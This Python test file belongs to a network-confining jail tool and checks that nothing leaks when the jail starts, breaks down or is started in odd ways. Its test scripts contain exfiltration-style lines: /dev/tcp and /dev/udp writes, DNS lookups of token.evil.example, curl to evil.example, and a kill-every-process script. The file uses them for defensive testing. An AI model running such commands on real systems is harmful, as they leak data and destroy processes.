# SPDX-License-Identifier: GPL-2.0-or-later
"""E-77 to E-95: windows at the start and the end, failures on the way, other ways to start."""

import os
import time

from lib import zone
from lib.case import Cases, eventually, expect, expect_eq, expect_in
from lib.commands import attempt, curl, probe, shell
from lib.jail import gates, leftovers

CASES = Cases()

GOOD = ["--allow", "good.example", "--allow", "tcp.example:7007"]
UPSTREAM = [("udp", zone.DNS4, 53)]
TCP_ECHO = [*UPSTREAM, *(("tcp", a, zone.PORT_ECHO) for a in zone.both(70))]


@CASES.case("E-77 the first thing that a command does, forty times")
def _start(t):
    marks = t.marks()
    token = t.token()
    script = f"echo {token} >/dev/udp/{zone.v4(66)}/999; " \
             f"echo {token} >/dev/udp/{zone.v6(66)}/999; " \
             f"exec 3<>/dev/tcp/{zone.v4(66)}/80 && echo {token} >&3"
    for _ in range(40):
        t.run(t.words(["-q", *GOOD], ["bash", "-c", script]))
    expect(not t.leaks(marks), f"packets left: {t.leaks(marks)}")


CASES.contain("E-77 a burst from the start", GOOD, attempt("burst", zone.v4(66), 999, "{tok}"))
CASES.contain("E-77 a burst from the start, as root", GOOD,
              attempt("burst", zone.v4(66), 999, "{tok}"),
              control=False, root=True)

# A command that says `up`, waits for a line, and then tries everything.
AFTER = f"""
exec 4<>/dev/tcp/tcp.example/7007; echo up; read -r token
for i in 1 2 3 4 5; do
  echo $token >/dev/udp/{zone.v4(66)}/999
  timeout 1 bash -c "echo $token >/dev/tcp/{zone.v4(66)}/999"
  timeout 1 bash -c "echo $token >/dev/tcp/{zone.v6(66)}/80"
  timeout 1 dig +tries=1 +time=1 $token.evil.example
  timeout 1 dig +tries=1 +time=1 @{zone.DNS4} $token.evil.example
  sleep 0.1
done >/dev/null 2>&1
echo $token >&4
echo done
"""


def after(t, harm, root=False):
    """What gets out after the harm was done to a running jail."""
    process = t.popen(t.words(["-q", *GOOD], shell(AFTER), root), text=True)
    try:
        expect_eq(process.stdout.readline(), "up\n", "the first line")
        token, marks = t.token(), t.marks()
        harm(process)
        try:
            process.communicate(token + "\n", timeout=15)
        except BrokenPipeError:
            pass
        leaks = t.leaks(marks, TCP_ECHO)
        expect(not leaks, f"packets left: {leaks}")
    finally:
        process.kill()


def kill_gate(_):
    for pid in gates():
        os.kill(pid, 9)


def stop_gate(_):
    for pid in gates():
        os.kill(pid, 19)


def kill_supervisor(process):
    process.kill()


for what, harm in (("E-78 gate killed", kill_gate), ("E-78 supervisor killed", kill_supervisor)):
    for who, root in (("user", False), ("root", True)):
        CASES.case(f"{what}, as {who}: closed")(lambda t, h=harm, r=root: after(t, h, r))


@CASES.case("E-78 gate stopped: closed, and open again when it goes on")
def _stopped(t):
    def pause(process):
        stop_gate(process)
        for pid in gates():
            os.kill(pid, 18)
    after(t, pause)


@CASES.case("E-78 the command kills all it can reach")
def _kill_all(t):
    marks, token = t.marks(), t.token()
    script = f"trap '' TERM; kill -9 $PPID; for p in /proc/[0-9]*; do p=${{p#/proc/}}; " \
             f"[ $p = $$ ] || kill -9 $p; done 2>/dev/null; sleep 0.3; " \
             f"echo {token} >/dev/udp/{zone.v4(66)}/999; echo {token} >/dev/tcp/{zone.v4(66)}/80"
    bystander = t.popen(t.enter() + ["sleep", "77"])
    result = t.jail(*GOOD)(shell(script))
    expect(not t.leaks(marks), "packets left", result)
    alive = bystander.poll() is None
    bystander.kill()
    bystander.wait()
    expect(alive, "a process of the same user outside was killed (the kernel has no scope for "
                  "signals, or it is not used)", result)


# --- E-84: what cannot be confined is not run.
NOT_STARTED = (125, 127, -9)  # 127: the loader had not even enough for the libraries
RAN = "echo ran; echo {tok} >/dev/udp/" + zone.v4(66) + "/999"


def hindered(t, words, what):
    """Either the command is not run and 125 says so, or it is run and nothing leaves."""
    token, marks = t.token(), t.marks()
    result = t.run(t.enter() + [*words, t.world.program, "run", "--allow", "good.example", "--",
                                *shell(RAN.replace("{tok}", token))])
    expect(not t.leaks(marks), "packets left", result)
    if "ran" not in result.out:
        expect_in(result.status, NOT_STARTED, f"exit status with {what}", result)
        expect(result.err.strip(), f"silent failure with {what}", result)
    return result


for limit in list(range(3, 24)):
    @CASES.case(f"E-84 only {limit} descriptors")
    def _nofile(t, limit=limit):
        hindered(t, ["prlimit", f"--nofile={limit}:{limit}"], f"{limit} descriptors")


@CASES.case("E-84 little memory")
def _memory(t):
    for megabytes in (4, 8, 12, 16, 24, 32, 64):
        hindered(t, ["prlimit", f"--as={megabytes << 20}"], f"{megabytes} MiB")


# Root of a user namespace needs no further one, so for that it has to give up what it is.
NO_ROOT = "setpriv --securebits=+noroot --inh-caps=-all --bounding-set=-all --"

for what, then in (("user", NO_ROOT), ("net", ""), ("mnt", "")):
    @CASES.case(f"E-84 no {what} namespaces allowed")
    def _namespaces(t, what=what, then=then):
        script = f"echo 0 >/proc/sys/user/max_{what}_namespaces; exec {then} \"$@\""
        result = hindered(t, ["unshare", "-Ur", "bash", "-c", script, "bash"],
                          f"no {what} namespaces")
        expect(result.status == 125 and "ran" not in result.out, "it was run all the same", result)


@CASES.case("E-84 no /proc")
def _proc(t):
    result = hindered(t, ["unshare", "-Urm", "bash", "-c", "mount -t tmpfs none /proc; exec \"$@\"",
                          "bash"], "no /proc")
    expect_in(result.status, (0, 125), "exit status", result)


# --- E-85: an empty policy.
for what, flags in (("no rule at all", []), ("only a deny", ["--deny", "evil.example"])):
    CASES.deny(f"E-85 {what}", flags, curl("http://good.example/{tok}"))
    CASES.deny(f"E-85 {what}, UDP", flags, attempt("udp", zone.v4(66), 999, "{tok}"))


# --- E-92: other ways to be started.
def start(t, *words, **options):
    token, marks = t.token(), t.marks()
    result = t.run([*words, "bash", "-c", f"echo {token} >/dev/udp/{zone.v4(66)}/999; "
                    f"curl -s -m2 http://evil.example/{token}"], options)
    expect(not t.leaks(marks), "packets left", result)


@CASES.case("E-92 from a jail, with the program's own name, by a script, with odd environments")
def _starts(t):
    program = t.world.program
    link = f"{t.world.work}/link"
    if not os.path.lexists(link):
        os.symlink(program, link)
    start(t, *t.enter(), program, "run", "--allow", "any:*", "--", program, "run", "--")
    start(t, *t.enter(), link, "run", "--")
    start(t, *t.enter(), "env", "-i", program, "run", "--")
    start(t, *t.enter(), "env", "LD_PRELOAD=/nonexistent.so", "SALLYPORT=x", "PATH=/usr/bin:/bin",
          program, "run", "--")
    start(t, *t.enter(), "bash", "-c", f"exec -a '' {program} run -- \"$@\"", "bash")


@CASES.case("E-92 children, daemons and what is left behind have no network of their own")
def _left_behind(t):
    token, marks = t.token(), t.marks()
    script = f"(setsid bash -c 'sleep 1.2; for i in 1 2 3; do " \
             f"echo {token} >/dev/udp/{zone.v4(66)}/999; " \
             f"dig +tries=1 +time=1 {token}.good.example; done' >/dev/null 2>&1 &) ; echo left"
    result = t.jail(*GOOD)(shell(script))
    expect_in("left", result.out, "output", result)
    time.sleep(1.7)
    expect(not t.leaks(marks), "packets left", result)


# --- E-95: a tunnel is accounted for.
@CASES.case("E-95 a long connection is in the log, once")
def _accounted(t):
    result = t.jail(*GOOD)(probe("tcp", "tcp.example", zone.PORT_ECHO, "x"))
    allowed = [e for e in result.events if e["verdict"] == "allow" and e["port"] == zone.PORT_ECHO]
    expect_eq(len(allowed), 1, "events", *result.events)
    eventually(lambda: not leftovers(), "something is still there")
